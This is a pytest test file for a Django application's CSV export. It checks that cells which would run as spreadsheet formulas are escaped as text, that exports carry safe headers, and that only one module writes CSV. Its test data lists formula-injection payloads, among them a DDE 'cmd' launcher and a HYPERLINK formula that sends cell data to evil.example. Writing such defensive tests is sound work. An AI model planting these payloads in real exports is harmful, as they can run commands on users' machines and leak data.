"""No cell of a CSV that leaves runs as a formula, in any program, and there is one way out."""

import csv
import io
from pathlib import Path

import pytest
from django.conf import settings
from django.test import Client

from eoc.doors.spreadsheets import safe, table
from tests.cast import Cast
from tests.incidents.build import logged

FORMULAS = [
    "=1+1",
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "   =1",
    "\u00a0=1",
    "\uff1d1+1",
    "\uff20SUM",
    "|calc",
    "%0A=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1)',
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_is_text(cell: str) -> None:
    answer = table("rows", ["a", cell], [[1, cell, -2.5, True, None]])
    head, row = csv.reader(io.StringIO(answer.content.decode(), newline=""))
    assert head[1] == row[1] == f"'{cell}"
    assert row[2] == "-2.5"
    assert answer.content.decode().startswith('"a","')


def test_plain_words_stay_as_they_are() -> None:
    for cell in ("Smoke, 12 Main", "a=b", "O'Brien", "", "12-14 Main", "Café"):
        assert safe(cell) == cell
    assert "\x00" not in safe("a\x00b")


def test_the_list_of_incidents_leaves_safely(cast: Cast) -> None:
    logged(cast, title="=cmd|' /C calc'!A0", place_text="@SUM(A1)")
    client = Client()
    client.force_login(cast.users["dana"])
    answer = client.get("/incidents/?format=csv")
    (row,) = csv.DictReader(io.StringIO(answer.content.decode()))
    assert {"'=cmd|' /C calc'!A0", "'@SUM(A1)"} <= set(row.values())
    assert answer.headers["Content-Disposition"].startswith("attachment; filename=")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Cache-Control"] == "no-store"


def test_there_is_one_way_a_csv_leaves() -> None:
    root = Path(settings.BASE_DIR)
    writing = [
        path.relative_to(root).as_posix()
        for app in ("eoc", "agencies", "incidents", "resources", "alerts")
        for path in (root / app).rglob("*.py")
        if "csv.writer" in path.read_text() or "csv.DictWriter" in path.read_text()
    ]
    assert writing == ["eoc/doors/spreadsheets.py"]
